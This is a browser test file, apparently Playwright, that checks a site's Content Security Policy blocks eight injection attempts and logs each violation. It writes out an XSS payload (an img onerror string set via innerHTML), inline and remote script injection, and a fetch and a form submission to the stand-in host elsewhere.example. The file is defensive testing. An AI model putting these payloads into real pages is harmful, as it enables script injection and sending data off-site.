// The policy stops what it is there to stop, and the watch over every other test would see it.
import { expect, test } from "../support/fixtures";

interface Attempt {
  named: string;
  breach: RegExp;
  /** In the page: whether it was achieved; an error is a refusal. */
  run: () => unknown;
}

const strings = /content security policy: (script-src|require-trusted-types)/;
const attempts: Attempt[] = [
  {
    named: "a script in the page",
    breach: strings,
    run: () => {
      const script = document.createElement("script");
      script.append("window.hacked = 1");
      document.head.append(script);
      return "hacked" in window;
    },
  },
  {
    named: "a script from elsewhere",
    breach: strings,
    run: () => {
      const script = document.createElement("script");
      script.src = "https://elsewhere.example/x.js";
      return true;
    },
  },
  {
    named: "markup from a string",
    breach: strings,
    run: () => {
      document.body.innerHTML = "<img src=x onerror=window.hacked=1>";
      return true;
    },
  },
  {
    named: "code from a string",
    breach: strings,
    run: () => {
      document.body.setAttribute("onclick", "window.hacked = 1");
      return true;
    },
  },
  {
    named: "a policy of one's own for strings",
    breach: /content security policy: trusted-types/,
    run: () => {
      const factory = Reflect.get(window, "trustedTypes") as { createPolicy: (name: string, rules: object) => void };
      factory.createPolicy("own", {});
      return true;
    },
  },
  {
    named: "another worker than the one there is",
    breach: strings,
    run: async () => {
      await navigator.serviceWorker.register("/theme.js");
      return true;
    },
  },
  {
    named: "a message to elsewhere",
    breach: /content security policy: connect-src/,
    run: async () => {
      await fetch("https://elsewhere.example/?told");
      return true;
    },
  },
  {
    named: "a form that is sent elsewhere",
    breach: /content security policy: form-action/,
    run: () => {
      const form = document.createElement("form");
      form.action = "https://elsewhere.example/";
      document.body.append(form);
      form.submit();
      return false;
    },
  },
];

test("the policy stops what it is there to stop, and the watch sees it", async ({ page, faults }) => {
  const seen: string[] = [];
  page.on("console", (message) => seen.push(message.text()));
  faults.allow(/./);
  for (const { named, breach, run } of attempts) {
    await page.goto("/");
    await expect(page.getByRole("heading", { level: 1 })).toBeVisible();
    expect(await page.evaluate(run).catch(() => false), named).toBe(false);
    await expect.poll(() => seen.join("\n"), named).toMatch(breach);
    expect(new URL(page.url()).pathname, named).toBe("/");
    seen.length = 0;
  }
});
